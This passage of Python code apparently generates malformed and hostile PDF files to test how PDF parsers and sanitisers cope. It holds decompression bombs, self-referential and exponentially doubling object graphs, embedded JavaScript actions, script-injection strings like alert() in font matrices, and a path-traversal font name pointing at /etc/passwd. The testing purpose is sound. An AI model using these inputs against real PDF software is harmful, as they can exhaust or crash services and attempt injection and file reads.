    yield "xref: a root that is no object", "any", {"trailer": f"/Root << /Type /Catalog /Pages 2 0 R /X ({X}) >>"}
    yield "xref: a trailer of secrets", "clean", {"trailer": f"/Info << /Title ({X}) /Author ({X}) >> /ID [<{X.encode().hex()}> ({X})] /{X} ({X})"}
    yield "outside: before the header", "any", {"head": f"<script>{X}</script>\n%PDF-1.7\n"}
    yield "outside: JavaScript before the header", "any", {"head": f"{X}=1;/*\n%PDF-1.7\n"}
    yield "outside: MHT before the header", "any", {"head": f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary={X}\n\n%PDF-1.7\n"}
    yield "outside: MHT in the header's line", "any", {"head": f"%PDF-1.7\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n{X}\n"}
    yield "outside: behind the end", "any", {"mangle": lambda d: d + f"PK\x03\x04{X}".encode() * 100}
    yield "outside: HTML behind the end", "any", {"mangle": lambda d: d + f"<html><script>{X}</script>".encode()}
    yield "outside: between the objects", "any", {"mangle": lambda d: d.replace(b"endobj\n5 0", f"endobj\n% {X} <script>\n5 0".encode())}
    yield "outside: an object nobody names", "clean", {"objects": {88: f"<< /S /JavaScript /JS ({X}) >>", 89: stream(X * 99, "/Type /EmbeddedFile")}}
    yield "outside: a ZIP in a stream", "clean", {"objects": {89: stream("PK\3\4" + X)}}
    yield "outside: a version of its own", "any", {"head": f"%PDF-{X}\n"}
    yield "outside: a length that lies", "any", {"objects": {4: stream(f"BT /F1 24 Tf 72 700 Td ({WORDS}) Tj ET\n%{X}", length=40)}}
    yield "outside: a length beyond", "any", {"objects": {4: stream(f"BT /F1 24 Tf 72 700 Td ({WORDS}) Tj ET\n", length=2 ** 33)}}
    yield "outside: a length elsewhere", "any", {"objects": {4: b"<< /Length 6 0 R >>\nstream\nq Q\nendstream", 6: "6 0 R"}}
    yield "outside: a length that is a stream", "any", {"objects": {4: b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"}}


def shift_font(d):
    """The table's row of object 5 leads into a string of the catalog."""
    there = f"{d.index(b'5 0 obj'):010d}".encode()
    return d.replace(f"{d.rindex(b'5 0 obj'):010d}".encode(), there)


def trees():
    yield "pages: a node that is its own kid", "any", {"objects": {2: "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"}}
    yield "pages: only itself", "any", {"objects": {2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}}
    yield "pages: the same page 5000 times", "any", {"objects": {2: "<< /Type /Pages /Kids [" + "3 0 R " * 5000 + "] /Count 5000 >>"}}
    yield "pages: the same page a hundred thousand times", "any", {"objects": {2: "<< /Type /Pages /Kids [" + "3 0 R " * 100000 + "] /Count 100000 >>"}}
    yield "pages: doubled forty times", "any", {"objects": {2: "<< /Type /Pages /Kids [100 0 R] /Count 1 >>", **{100 + i: f"<< /Type /Pages /Kids [{101 + i} 0 R {101 + i} 0 R] /Count 1 /Parent 2 0 R >>" for i in range(40)}, 140: base()[3]}}
    yield "pages: doubled forty times, without pages", "any", {"objects": {2: "<< /Type /Pages /Kids [3 0 R 100 0 R] /Count 1 >>", **{100 + i: f"<< /Type /Pages /Kids [{101 + i} 0 R {101 + i} 0 R] /Count 1 >>" for i in range(40)}, 140: "<< /Type /Pages /Kids [] >>"}}
    yield "pages: a chain of ten thousand", "any", {"objects": {2: "<< /Type /Pages /Kids [100 0 R] /Count 1 >>", **{100 + i: f"<< /Type /Pages /Kids [{101 + i} 0 R] /Count 1 >>" for i in range(10000)}, 10100: base()[3]}}
    yield "pages: a count that lies", "any", {"objects": {2: "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"}}
    yield "pages: none", "any", {"objects": {2: "<< /Type /Pages /Kids [] /Count 0 >>"}}
    yield "pages: a parent elsewhere", "any", {"objects": {3: base()[3].replace("/Parent 2 0 R", "/Parent 99 0 R")}}
    for box in ("[0 0 nan nan]", "[0 0 1e9 1e9]", "[0 0 999999999999999999999 9]", "[0 0 0 0]", "[612 792 0 0]", "[-9 -9 inf 1]", "[(a) (b) 1 1]", "3", "[0 0 612 792 0 0]", "[0 0 99999 99999]", "[-2147483647 -2147483647 2147483647 2147483647]", "[0 0 .00001 .00001]", "[3 0 R 0 R]"):
        yield f"pages: a size of {box}", "any", {"media": box}
    for keys in ("/UserUnit 75000", "/UserUnit -1", "/Rotate 45", "/Rotate 1e99", "/CropBox [700 800 900 999]", "/CropBox [0 0 nan 1]", "/Rotate -90", f"/TemplateInstantiated /{X} /Tabs /{X} /Thumb 5 0 R /B [5 0 R] /PZ 9 /SeparationInfo << /DeviceColorant /{X} >> /Trans << /S /{X} >> /Dur 1 /VP [<< /Measure << >> >>] /PresSteps << /NA << /S /JavaScript /JS ({X}) >> >> /ID ({X}) /LastModified ({X})"):
        yield f"pages: {keys[:50]}".replace(X, "x"), "any", {"page": keys}


def circles():
    form = "/Type /XObject /Subtype /Form /BBox [0 0 100 100]"
    tile = "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9"
    draw = "/X Do\n"
    yield "circle: a form in itself", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {90: stream(draw, form + " /Resources << /XObject << /X 90 0 R >> >>")}}
    yield "circle: a form by the page's resources", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {90: stream(draw, form)}}
    yield "circle: a form over a pattern", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {90: stream("/Pattern cs /P scn 0 0 9 9 re f", form + " /Resources << /Pattern << /P 91 0 R >> >>"),
        91: stream(draw, tile + " /Resources << /XObject << /X 90 0 R >> >>")}}
    yield "circle: a pattern in itself", "any", {"resources": "/Pattern << /P 91 0 R >>", "content": "/Pattern cs /P scn 0 0 9 9 re f\n", "objects": {91: stream("/Pattern cs /P scn 0 0 9 9 re f", tile + " /Resources << /Pattern << /P 91 0 R >> >>")}}
    type3 = "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 91 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /Font << /T 90 0 R >> /XObject << /X 92 0 R >> >> >>"
    yield "circle: a glyph that writes itself", "any", {"font": "/T 90 0 R", "content": "BT /T 9 Tf (a) Tj ET\n", "objects": {90: type3, 91: stream("1 0 d0 BT /T 9 Tf (a) Tj ET")}}
    yield "circle: a glyph over a form", "any", {"font": "/T 90 0 R", "content": "BT /T 9 Tf (a) Tj ET\n", "objects": {90: type3, 91: stream("1 0 d0 /X Do"), 92: stream("BT /T 9 Tf (a) Tj ET", form + " /Resources << /Font << /T 90 0 R >> >>")}}
    yield "circle: a soft mask over itself", "any", {"resources": "/ExtGState << /G 90 0 R >>", "content": "/G gs 0 0 9 9 re f\n", "objects": {90: "<< /SMask << /S /Alpha /G 91 0 R /TR 92 0 R >> >>", 91: stream("/G gs 0 0 9 9 re f", form + " /Group << /S /Transparency >> /Resources << /ExtGState << /G 90 0 R >> >>"), 92: "<< /FunctionType 3 /Domain [0 1] /Functions [92 0 R] /Bounds [] /Encode [0 1] >>"}}
    yield "circle: a soft mask of a picture in itself", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {90: stream("x", "/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 90 0 R")}}
    yield "circle: a mask of a picture in itself", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {90: stream("x", "/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 1 /ImageMask true /Mask 90 0 R")}}
    yield "circle: a function of itself", "any", {"resources": "/Shading << /S 90 0 R >>", "content": "/S sh\n", "objects": {90: "<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 1] /Function 91 0 R >>", 91: "<< /FunctionType 3 /Domain [0 1] /Functions [91 0 R 91 0 R] /Bounds [.5] /Encode [0 1 0 1] >>"}}
    yield "circle: a colour space of itself", "any", {"resources": "/ColorSpace << /C 90 0 R >>", "content": "/C cs 0 sc 0 0 9 9 re f\n", "objects": {90: "[/Indexed 90 0 R 1 <0000>]"}}
    yield "circle: a colour space over others", "any", {"resources": "/ColorSpace << /C 90 0 R >>", "content": "/C cs 0 sc 0 0 9 9 re f\n", "objects": {90: "[/Separation /a 91 0 R 92 0 R]", 91: "[/ICCBased 93 0 R]", 93: stream("x", "/N 1 /Alternate 90 0 R"), 92: "<< /FunctionType 2 /Domain [0 1] /N 1 >>"}}
    yield "circle: a font of itself", "any", {"font": "/T 90 0 R", "content": "BT /T 9 Tf (a) Tj ET\n", "objects": {90: "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [90 0 R] >>"}}
    doubled = {90 + i: stream("/X Do /X Do\n" * 4, form + f" /Resources << /XObject << /X {91 + i} 0 R >> >>") for i in range(20)}
    yield "circle: forms that double", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {**doubled, 110: stream("0 0 1 1 re f", form)}}
    chained = {90 + i: stream(draw, form + f" /Resources << /XObject << /X {91 + i} 0 R >> >>") for i in range(3000)}
    yield "circle: a chain of three thousand forms", "any", {"resources": "/XObject << /X 90 0 R >>", "content": draw, "objects": {**chained, 3090: stream("0 0 1 1 re f", form)}}
    functions = {91 + i: f"<< /FunctionType 3 /Domain [0 1] /Functions [{92 + i} 0 R {92 + i} 0 R] /Bounds [.5] /Encode [0 1 0 1] >>" for i in range(40)}
    yield "circle: functions that double", "any", {"resources": "/Shading << /S 90 0 R >>", "content": "/S sh\n", "objects": {90: "<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 1] /Function 91 0 R >>", **functions, 131: "<< /FunctionType 2 /Domain [0 1] /N 1 >>"}}
    written = "<< /FunctionType 2 /Domain [0 1] /N 1 >>"
    for _ in range(60):
        written = f"<< /FunctionType 3 /Domain [0 1] /Functions [{written}] /Bounds [] /Encode [0 1] >>"
    yield "circle: functions in functions", "any", {"resources": "/Shading << /S 90 0 R >>", "content": "/S sh\n", "objects": {90: f"<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 1] /Function {written} >>"}}


def bomb(size, word=b"\0"):
    """@size MiB of @word, made quickly: the same block again and again."""
    block, z, sum_ = word * ((1 << 20) // len(word)), zlib.compressobj(9, zlib.DEFLATED, -15), 1
    packed_block = z.compress(block) + z.flush(zlib.Z_FULL_FLUSH)
    for _ in range(size):
        sum_ = zlib.adler32(block, sum_)
    return b"\x78\xda" + packed_block * size + b"\x03\x00" + sum_.to_bytes(4, "big")


def packed(data, keys):
    return stream(data, keys + " /Filter /FlateDecode")


def bombs():
    big = bomb(1500)
    double = zlib.compress(big, 9)
    image = "/Subtype /Image /Width {0} /Height {0} /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    yield "bomb: content", "limit", {"objects": {4: packed(big, "")}}
    yield "bomb: content twice over", "limit", {"objects": {4: stream(double, "/Filter [/FlateDecode /FlateDecode]")}}
    yield "bomb: content of operators", "any", {"objects": {4: packed(bomb(300, b"q Q\n"), "")}}
    yield "bomb: a hundred filters", "any", {"objects": {4: stream(b"x", "/Filter [" + "/FlateDecode " * 100 + "]")}}
    yield "bomb: run lengths", "any", {"objects": {4: stream(zlib.compress(b"\x81 " * 4000000), "/Filter [/FlateDecode /RunLengthDecode]")}}
    yield "bomb: an image", "any", {"resources": "/XObject << /X 90 0 R >>", "content": "/X Do\n", "objects": {90: packed(big, image.format(60000))}}
    yield "bomb: an image of a few bytes", "any", {"resources": "/XObject << /X 90 0 R >>", "content": "/X Do\n", "objects": {90: packed(bomb(1), image.format(14000))}}
    for what, keys in [("CCITT", "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"), ("CCITT rows", "/Filter /CCITTFaxDecode /DecodeParms << /K 0 /Columns 2147483647 /Rows 2147483647 >>"),
                       ("JBIG2", "/Filter /JBIG2Decode"), ("JPX", "/Filter /JPXDecode"), ("DCT", "/Filter /DCTDecode"), ("LZW", "/Filter /LZWDecode")]:
        yield f"bomb: {what}", "any", {"resources": "/XObject << /X 90 0 R >>", "content": "/X Do\n", "objects": {90: stream(b"\xff" * 1000 + X.encode(), f"/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray {keys}")}}
    yield "bomb: a predictor", "any", {"objects": {4: stream(zlib.compress(b"x"), "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 2147483647 /BitsPerComponent 2147483647 /Columns 2147483647 >>")}}
    yield "bomb: an ICC profile", "any", {"resources": "/ColorSpace << /C [/ICCBased 90 0 R] >>", "content": "/C cs 1 sc 0 0 9 9 re f\n", "objects": {90: packed(big, "/N 1")}}
    yield "bomb: a map to Unicode", "any", {"objects": {5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 90 0 R >>", 90: packed(big, "")}}
    yield "bomb: a font", "any", {"objects": {5: "<< /Type /Font /Subtype /TrueType /BaseFont /A /FirstChar 32 /LastChar 33 /Widths [5 5] /FontDescriptor 91 0 R >>", 91: "<< /Type /FontDescriptor /FontName /A /Flags 32 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 90 0 R >>", 90: packed(big, "/Length1 9")}}
    yield "bomb: a function", "any", {"resources": "/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 1] /Function 90 0 R >> >>", "content": "/S sh\n", "objects": {90: packed(big, "/FunctionType 0 /Domain [0 1] /Range [0 1] /Size [2147483647] /BitsPerSample 32")}}
    yield "bomb: a lookup", "any", {"resources": "/ColorSpace << /C [/Indexed /DeviceRGB 255 90 0 R] >>", "content": "/C cs 1 sc 0 0 9 9 re f\n", "objects": {90: packed(big, "")}}
    yield "bomb: an object stream", "any", {"whole": objstm_bomb(bomb(60))}
    yield "bomb: a cross-reference stream", "any", {"whole": xref_bomb(bomb(30))}


def objstm_bomb(data):
    out = bytearray(b"%PDF-1.7\n")
    objects = base()
    objects.pop(5)
    places = body(out, {**objects, 6: packed(data, "/Type /ObjStm /N 1 /First 10")})
    start = len(out)
    rows = [(0, 0, 65535)] + [(1, places[n][0], 0) for n in (1, 2, 3, 4)] + [(2, 6, 0), (1, places[6][0], 0), (1, start, 0)]
    table = b"".join(bytes([t]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for t, a, b in rows)
    return bytes(out) + b"7 0 obj\n" + stream(table, "/Type /XRef /W [1 4 2] /Size 8 /Root 1 0 R") + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def xref_bomb(data):
    out = bytearray(b"%PDF-1.7\n")
    body(out, base())
    start = len(out)
    return bytes(out) + b"7 0 obj\n" + packed(data, "/Type /XRef /W [1 4 2] /Size 200000000 /Root 1 0 R") + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def contents():
    inline = "q 1 0 0 1 0 0 cm BI /W 2 /H 2 /BPC 8 /CS /G ID "
    for what, text in [
            ("an EI inside", inline + f"a EI Q ({X}) b\nEI Q"), ("no EI", inline + "ab"), ("an EI too early", inline + "a EI Q\n"), ("without a size", f"BI ID {X} EI\n"), ("a size that lies", "BI /W 99999 /H 99999 /BPC 8 /CS /G ID x EI\n"),
            ("a filter", f"BI /W 2 /H 2 /BPC 8 /CS /G /F /Fl ID {X} EI\n"), ("a filter of files", f"BI /W 2 /H 2 /BPC 8 /CS /G /F (x) ID abcd\nEI\n"), ("JBIG2 in line", f"BI /W 2 /H 2 /BPC 1 /CS /G /F /JBIG2Decode ID {X} EI\n"),
            ("strings without end", f"BT /F1 9 Tf ((({X}) Tj ET"), ("hex without end", f"BT /F1 9 Tf <4142 {X}"), ("brackets too many", f")))) >> ]] }} {{ {X}"), ("an array without end", "BT [(a) (b) (c)"),
            ("unknown words", f"/{X} {X} ({X}) PS\n{X}\n"), ("PostScript", f"({X}) run /{X} PS currentfile eexec\n"), ("marks with properties", f"/{X} << /MCID 0 /X ({X}) /ActualText 5 /S /JavaScript >> BDC EMC /{X} MP /{X} /{X} DP\n"),
            ("numbers without sense", "1e9 --5 +-3 5-3 .. 0x41 nan 99999999999999999999999 -99999999999999999999999 0 0 cm\n"), ("a matrix without end", "99999999999 0 0 99999999999 99999999999 99999999999 cm\n"),
            ("q without end", "q " * 400), ("q far too many", "q " * 100000), ("Q far too many", "Q " * 100000), ("a million operators", "0 0 1 1 re f\n" * 300000), ("a long line of operands", "1 " * 1000000 + "w\n"),
            ("names that are not there", "/Nope Do /Nope gs /Nope sh /Nope cs /Nope scn BT /Nope 9 Tf (x) Tj ET\n"), ("a name with everything", "/#00#01#FF#28#2F Do\n"), ("NUL bytes", "\0\0\0q\0Q\0"), ("form feeds", "\x0cq\x0cQ\x0c"),
            ("a comment that ends it", f"% {X}\rq Q % {X}\n"), ("XObjects drawn a million times", "/X Do " * 300000), ("BX and EX", f"BX {X} EX BX BX {X}"), ("BT in BT", "BT BT /F1 9 Tf (x) Tj ET ET"), ("text that is not shown", "BT 3 Tr /F1 9 Tf (unseen) Tj ET\n"),
            ("white text", "1 g BT /F1 9 Tf 9 9 Td (white) Tj ET\n"), ("a word as long as the file", "A" * 3000000), ("a string as long as the file", "BT /F1 9 Tf (" + "A" * 3000000 + ") Tj ET"), ("dashes", "[1 0 -1 nan] 0 d [" + "1 " * 5000 + "] 0 d\n")]:
        yield f"content: {what}", "any", {"content": text, "resources": "/XObject << /X 90 0 R >>", "objects": {90: stream("0 0 1 1 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")}}
    yield "content: in pieces that break a word", "any", {"objects": {3: base(page="")[3].replace("/Contents 4 0 R", "/Contents [4 0 R 90 0 R 91 0 R]"), 90: stream("BT /F1 9 Tf (ab"), 91: stream("cd) Tj ET")}}
    yield "content: the same stream ten thousand times", "any", {"objects": {3: base()[3].replace("/Contents 4 0 R", "/Contents [" + "4 0 R " * 10000 + "]")}}
    yield "content: an array of itself", "any", {"objects": {3: base()[3].replace("/Contents 4 0 R", "/Contents 90 0 R"), 90: "[90 0 R 4 0 R [4 0 R]]"}}
    for what, properties, config in [
            ("off", "", "/OFF [80 0 R]"), ("off by base", "", "/BaseState /OFF"), ("off in what is seen, on in print", "/Usage << /Print << /PrintState /ON >> /View << /ViewState /OFF >> >>",
             "/OFF [80 0 R] /AS [<< /Event /Print /Category [/Print] /OCGs [80 0 R] >>]")]:
        at = {80: f"<< /Type /OCG /Name ({X}) {properties} >>"}
        yield f"layers: {what}", "+pdf-hidden-layer", {"catalog": f"/OCProperties << /OCGs [80 0 R] /D << {config} >> /Configs [<< /Name ({X}) /ON [80 0 R] >>] >>", "resources": "/Properties << /L 80 0 R >>",
                                                       "content": f"/OC /L BDC BT /F1 9 Tf 20 20 Td ({X}) Tj ET EMC\n", "objects": at}
    yield "layers: a rule that loops", "any", {"catalog": "/OCProperties << /OCGs [80 0 R] /D << >> >>", "resources": "/Properties << /L 81 0 R >>", "content": "/OC /L BDC BT /F1 9 Tf (x) Tj ET EMC\n",
                                              "objects": {80: "<< /Type /OCG /Name (a) >>", 81: "<< /Type /OCMD /OCGs [80 0 R 81 0 R] /P /AnyOff /VE 82 0 R >>", 82: "[/And 82 0 R [/Not 82 0 R]]"}}
    ve = "80 0 R"
    for _ in range(400):
        ve = f"[/Not {ve}]"
    yield "layers: a rule 400 deep", "any", {"catalog": "/OCProperties << /OCGs [80 0 R] /D << >> >>", "resources": f"/Properties << /L << /Type /OCMD /VE {ve} >> >>", "content": "/OC /L BDC EMC\n", "objects": {80: "<< /Type /OCG /Name (a) >>"}}


def programs():
    """Functions, shadings, fonts and colour spaces as programs."""
    shading = "/Shading << /S << /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 1 1] /Function 90 0 R >> >>"
    for what, text in [("a file", f"{{ ({X}) (r) file }}"), ("a loop", "{ { } loop }"), ("depth", "{ " * 5000 + "} " * 5000), ("an endless number", "{ " + "9" * 100000 + " }"), ("unknown words", f"{{ {X} exec }}"), ("no end", "{ 1 2 add"), ("something behind", f"{{ pop 0 }} {X}"),
                       ("a comment", f"{{ % {X}\n pop 0 }}"), ("a stack that overflows", "{ " + "dup " * 200000 + "}"), ("a roll", "{ 2147483647 -2147483648 roll pop 0 }"), ("a copy", "{ 2147483647 copy pop 0 }"), ("division", "{ 0 idiv 0 mod 0 div }")]:
        yield f"calculator: {what}", "any", {"resources": shading, "content": "/S sh\n", "objects": {90: stream(text, "/FunctionType 4 /Domain [0 1] /Range [0 1]")}}
    for what, text in [("sizes", "/FunctionType 0 /Domain [0 1] /Range [0 1] /Size [2147483647] /BitsPerSample 32"), ("many inputs", f"/FunctionType 0 /Domain [{'0 1 ' * 30}] /Range [0 1] /Size [{'2 ' * 30}] /BitsPerSample 8"), ("a size below", "/FunctionType 0 /Domain [0 1] /Range [0 1] /Size [-1] /BitsPerSample 8"),
                       ("a domain turned around", "/FunctionType 2 /Domain [1 0] /N 1"), ("a power", "/FunctionType 2 /Domain [-1 1] /N 1e99"), ("an unknown type", f"/FunctionType 7 /X ({X})"), ("a name", f"/FunctionType /{X}")]:
        yield f"function: {what}", "any", {"resources": shading, "content": "/S sh\n", "objects": {90: stream("x" * 99, text)}}
    font = "<< /Type /FontDescriptor /FontName /A /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile 94 0 R >>"
    type1 = f"%!PS-AdobeFont-1.0: A\n/FontInfo 1 dict def ({X}) run\n/FontMatrix [1 0 0 1 0 (0\\); alert\\('{X}'\\))] def /Encoding StandardEncoding def\ncurrentfile eexec\n" + "00" * 300 + "cleartomark"
    yield "font: Type 1 with a program", "any", {"objects": {5: "<< /Type /Font /Subtype /Type1 /BaseFont /A /FirstChar 32 /LastChar 33 /Widths [5 5] /FontDescriptor 93 0 R >>", 93: font, 94: stream(type1, "/Length1 200 /Length2 300 /Length3 0")}}
    yield "font: a matrix of strings", "any", {"font": "/T 90 0 R", "content": "BT /T 9 Tf (a) Tj ET\n", "objects": {90: f"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 2 3 4 5 (0\\); alert\\('{X}'\\)//)] /CharProcs << /a 91 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] >>", 91: stream("1 0 d0 0 0 1 1 re f")}}
    yield "font: a matrix of strings on Type 1", "clean", {"objects": {5: f"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\('{X}'\\)//)] /{X} ({X}) >>"}}
    for name in ("/..#2F..#2Fetc#2Fpasswd", f"/{X}", "/#00", "/" + "A" * 5000, "(Helvetica)", "95 0 R"):
        yield f"font: named {name[:30]}".replace(X, "x"), "any", {"objects": {5: f"<< /Type /Font /Subtype /Type1 /BaseFont {name} >>", 95: "95 0 R"}} if X not in name else {"objects": {5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Name /" + X + " >>"}}
    for what, keys in [("codes beyond", "/FirstChar -5 /LastChar 99999999 /Widths [500]"), ("differences without sense", f"/Encoding << /BaseEncoding /{X} /Differences [300 /A -5 /B (x) /C 1 2 3 /{'D' * 300}] >>"), ("an encoding that is a file", f"/Encoding << /Type /Encoding /F ({X}) >>"), ("widths of strings", f"/FirstChar 32 /LastChar 33 /Widths [({X}) nan]")]:
        yield f"font: {what}", "any", {"says": "Ordina", "objects": {5: f"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica {keys} >>"}}
    for what, space in [("DeviceN of 5000", "[/DeviceN [" + "/a " * 5000 + "] /DeviceGray 90 0 R]"), ("a colorant's name", f"[/Separation /{X} /DeviceGray 90 0 R]"), ("a lookup that lies", "[/Indexed /DeviceRGB 2147483647 <00>]"), ("Lab without sense", "[/Lab << /WhitePoint [nan 0 -5] >>]"),
                        ("attributes", f"[/DeviceN [/a] /DeviceGray 90 0 R << /Colorants << /{X} 5 0 R >> /Process << >> >>]"), ("an unknown kind", f"[/{X} ({X})]"), ("a pattern of a pattern", "[/Pattern [/Pattern [/Pattern /DeviceGray]]]"), ("a calibration", "[/CalRGB << /WhitePoint [1 1 1] /Gamma [0 -1 1e99] /Matrix [1] >>]")]:
        if "colorant" in what:
            space = space.replace(X, "Gold")
        yield f"colour: {what}", "any", {"resources": f"/ColorSpace << /C {space} >>", "content": "/C cs 0 scn 0 0 9 9 re f\n", "objects": {90: "<< /FunctionType 2 /Domain [0 1] /N 1 >>"}}
    for kind in range(0, 9):
        yield f"shading: type {kind} of noise", "any", {"resources": "/Shading << /S 90 0 R >>", "content": "/S sh\n", "objects": {90: stream(bytes(range(256)) * 40, f"/ShadingType {kind} /ColorSpace /DeviceRGB /BitsPerCoordinate 32 /BitsPerComponent 16 /BitsPerFlag 8 /VerticesPerRow 2 /Decode [0 1 0 1 0 1 0 1 0 1] /Coords [nan 0 0 9e99 0 -1] /Domain [1 0] /Function {X}".replace(X, "91 0 R")), 91: "<< /FunctionType 2 /Domain [0 1] /N 1 /C0 [0 0 0] /C1 [1 1 1] >>"}}
    state = "/ExtGState << /G << /Type /ExtGState /HT 91 0 R /TR 91 0 R /TR2 /Default /BG 91 0 R /UCR2 91 0 R /HTO [9 9] /UseBlackPtComp /ON /LW -5 /LC 99 /ML 0 /D [[-1] nan] /Font [5 0 R 1e99] /BM [/Nope /Multiply] /SMask /None /CA 7 /ca -3 /X (%s) >> >>" % X
    yield "state: everything at once", "any", {"resources": state, "content": "/G gs\n", "objects": {91: stream("x" * 4, f"/Type /Halftone /HalftoneType 6 /Width 2 /Height 2 /F ({HTTP}) /HalftoneName ({X})")}}


def locks():
    for what, keys in [("an unknown handler", f"/Filter /{X} /V 4 /R 4"), ("a public key", f"/Filter /Adobe.PubSec /V 4 /SubFilter /adbe.pkcs7.s5 /Recipients [({X})]"), ("no password that works", f"/Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{'41' * 32}> /U <{'42' * 32}>"),
                       ("numbers beyond", f"/Filter /Standard /V 99 /R 99 /Length 99999999 /P 1 /O <{'41' * 9}> /U <>"), ("identity filters", f"/Filter /Standard /V 4 /R 4 /Length 128 /P -44 /O <{'41' * 32}> /U <{'42' * 32}> /CF << /StdCF << /CFM /None >> >> /StmF /Identity /StrF /Identity /EFF /StdCF"),
                       ("itself", "95 0 R")]:
        yield f"lock: {what}", "refused" if what != "itself" else "any", {"trailer": f"/Encrypt << {keys} >> /ID [<00> <00>]" if what != "itself" else "/Encrypt 95 0 R /ID [<00> <00>]", "objects": {95: "<< /Filter /Standard /CF 95 0 R >>"}}
    yield "lock: Crypt on an open file", "any", {"objects": {4: stream(f"BT /F1 24 Tf 72 700 Td ({WORDS}) Tj ET", f"/Filter [/Crypt] /DecodeParms [<< /Name /{X} /Type /CryptFilterDecodeParms >>]")}}


def costs():
    """Pages that poppler took over 25 s to draw, and their neighbours that it did not."""
    def tiles(step, more="", box="[0 0 1 1]", times=1):
        return {"resources": "/Pattern << /P 90 0 R >>", "content": "/Pattern cs\n" + "/P scn 0 0 612 792 re f\n" * times,
                "objects": {90: stream("0 0 1 1 re f", f"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox {box} /XStep {step} /YStep {step} {more} /Resources << >>")}}

    def masks(times):
        return {"resources": "/ExtGState << /G 90 0 R >>", "content": "/G gs 0 0 9 9 re f\n" * times,
                "objects": {90: "<< /SMask << /S /Luminosity /G 91 0 R >> >>", 91: stream("1 g 0 0 612 792 re f", group)}}

    group = "/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Group << /S /Transparency /CS /DeviceGray >>"
    yield "cost: tiles", "clean", tiles(9)
    yield "cost: tiles of a tenth", "draw", tiles(0.1)
    yield "cost: tiles of a hundredth", "limit", tiles(0.01)
    yield "cost: tiles made small by their matrix", "limit", tiles(9, "/Matrix [.001 0 0 .001 0 0]")
    yield "cost: tiles without a size", "draw", tiles(9, "/Matrix [1 1 1 1 0 0]")
    yield "cost: tiles far larger than their step", "limit", tiles(1, box="[0 0 99999 99999]")
    yield "cost: tiles again and again", "draw", tiles(2, times=300)
    yield "cost: dashes", "clean", {"content": "[3 2] 0 d 0 0 m 600 0 l S\n"}
    yield "cost: dashes of nearly nothing", "limit", {"content": "[.0001] 0 d 0 0 m 2000000000 0 l S\n"}
    yield "cost: dashes of nearly nothing, then none", "clean", {"content": "q [.0001] 0 d Q 0 0 m 2000000000 0 l S\n"}
    yield "cost: dashes around letters", "draw", {"content": "BT 1 Tr [.0001] 0 d /F1 10 Tf (Letters) Tj ET\n"}
    yield "cost: dashes in a state", "limit", {"resources": "/ExtGState << /G << /D [[.0001] 0] >> >>", "content": "/G gs 0 0 m 2000000000 0 l S\n"}
    yield "cost: dashes in a state, on short lines", "clean", {"resources": "/ExtGState << /G << /D [[3 2] 1] >> >>", "content": "/G gs 0 0 m 9 0 l S\n"}
    yield "cost: dashes in a state, many", "draw", {"resources": "/ExtGState << /G << /D [[.01] 0] >> >>", "content": "10 10 m /G gs 99999 0 l S\n"}
    yield "cost: dashes in a state, set again and again", "draw", {"resources": "/ExtGState << /G << /D [[" + "1 " * 64 + "] 0] >> >>", "content": "/G gs\n" * 100000}
    yield "cost: a state without dashes", "clean", {"resources": "/ExtGState << /G << /D [[] 0] >> >>", "content": "/G gs 0 0 m 9 0 l S\n"}
    yield "cost: dashes in a form, again and again", "draw", {"resources": "/XObject << /X 90 0 R >>", "content": "/X Do\n" * 90,
